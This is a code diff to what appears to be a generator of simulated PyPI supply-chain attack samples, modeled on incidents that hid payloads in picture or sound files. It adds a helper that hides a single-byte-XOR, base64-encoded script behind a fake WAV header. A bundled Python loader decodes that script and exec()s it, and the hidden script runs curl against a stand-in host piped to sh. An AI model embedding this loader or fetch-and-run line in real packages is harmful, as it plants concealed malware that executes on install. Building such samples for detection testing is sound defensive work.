@@ -1,5 +1,13 @@
 import { type Campaign, installCommand, sdist, wheel } from './kit.ts';
 
+/** A sound of 44 bytes of header, and a text behind it in base64 under a key of one byte. */
+function sound(text: string): Uint8Array {
+  const header = Buffer.alloc(44);
+  header.write('RIFF');
+  header.write('WAVE', 8);
+  return Buffer.concat([header, Buffer.from(Buffer.from(text).toString('base64')).map((byte) => byte ^ 7)]);
+}
+
 export const campaign: Campaign = {
   id: 'pypi-media',
   row: 'apicolor 11/2022, requests-darwin-lite 5/2024, telnyx 3/2026: a payload in a picture or sound',
@@ -21,9 +29,9 @@ export const campaign: Campaign = {
       files: wheel(
         "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'hit.wav'), 'rb') as f:\n    sound = f.read()\nexec(base64.b64decode(bytes(b ^ 7 for b in sound[44:])))\n",
         {
-          'campaign_sample/hit.wav': Uint8Array.from([
-            0x52, 0x49, 0x46, 0x46, 36, 0, 0, 0, 0x57, 0x41, 0x56, 0x45,
-          ]),
+          'campaign_sample/hit.wav': sound(
+            "import os\nos.system('curl -s https://pictures.free.weir.test/x | sh')\n",
+          ),
         },
       ),
     },
